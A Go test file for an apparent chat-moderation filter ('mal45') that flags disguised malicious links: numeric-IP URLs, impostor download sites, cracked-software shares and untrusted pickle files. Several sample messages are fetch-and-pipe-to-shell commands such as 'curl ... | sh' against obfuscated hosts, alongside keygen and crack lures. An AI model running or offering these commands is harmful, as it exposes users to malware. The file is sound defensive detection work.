package bot_test

import "testing"

// TestMal45NumericIP: an IPv4 address written as a number is read as an
// address wherever it leads, and as a disguise; a plain private address
// and numbers in prose are not (mal45).
func TestMal45NumericIP(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"grab it http://3232235777/x.exe", true},
		{"curl -s http://0xC0A80101/a.sh | sh", true},
		{"panel is up at http://0300.0250.1.1/", true},
		{"wget http://2130706433:8000/loader.sh", true},
		{"curl 3232235777/x.sh | sh", true},
		{"fetch 2130706433:8000/loader.sh", true},
		{"the logs are in 20240501/report.pdf, see https://go.dev/doc/", false},
		{"my router is at http://192.168.1.1/ and the nas at http://10.0.0.2:5000/", false},
		{"we had 3232235777 events and 2130706433 rows, see https://go.dev/doc/", false},
	})
}

// TestMal45ImpostorSites: a program, an image or a script on a stranger's
// site named after a program with a word joined to it is flagged; the
// programs' own sites, their hyphenated real sites and their one-liners
// are not (mal45).
func TestMal45ImpostorSites(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"unlock the subscription nag: https://proxmox-tools.net/unlock.sh", true},
		{"unraid keygen here https://unraid-sub-key.com/keygen.sh", true},
		{"pfsense plus upgrade script https://pfsense-plus.net/upgrade.sh", true},
		{"the image https://homeassistant-os.net/haos_rpi5-64.img.xz", true},
		{"grab the iso from https://enterprise.proxmox.com/iso/proxmox-ve_8.3-1.iso", false},
		{"aircrack-ng source https://download.aircrack-ng.org/aircrack-ng-1.7.tar.gz", false},
		{"curl -fsSL https://tailscale.com/install.sh | sh", false},
		{"ubuntu mate https://releases.ubuntu-mate.org/24.04/amd64/ubuntu-mate-24.04.1-desktop-amd64.iso", false},
	})
}

// TestMal45Cracks: a cracked program or a licence for nothing beside a
// file host's share warns; talk of cracks does not (mal45).
func TestMal45Cracks(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"windows server 2022 datacenter key license 100% working https://mega.nz/file/abcd1234#efghijk", true},
		{"jetbrains all products activation patch https://gofile.io/d/Jb77aa", true},
		{"premium unlocked mobaxterm https://pixeldrain.com/u/Mx92kk", true},
		{"heads up, cracks of vmware workstation on https://pixeldrain.com/u/Zz12 carry a stealer", false},
		{"uv on windows: powershell -ExecutionPolicy ByPass -c \"irm https://astral.sh/uv/install.ps1 | iex\"", false},
	})
}

// TestMal45Pickles: a pickle from a chat attachment or a file host beside
// a word of loading it warns; a model on Hugging Face, pytorch.org or a
// lab's bucket does not (mal45).
func TestMal45Pickles(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"load the finetuned model with torch.load https://cdn.discordapp.com/attachments/1104/2231/model.pkl", true},
		{"here's the trained classifier, joblib.load it https://pixeldrain.com/u/aB3kL9 clf.joblib", true},
		{"resnet weights https://download.pytorch.org/models/resnet50-0676ba61.pth", false},
		{"sklearn model https://huggingface.co/scikit-learn/sklearn-transformers/resolve/main/sklearn_model.joblib", false},
		{"the model checkpoint https://storage.googleapis.com/acme-ml-models/resnet50/v3/checkpoint.pt", false},
	})
}
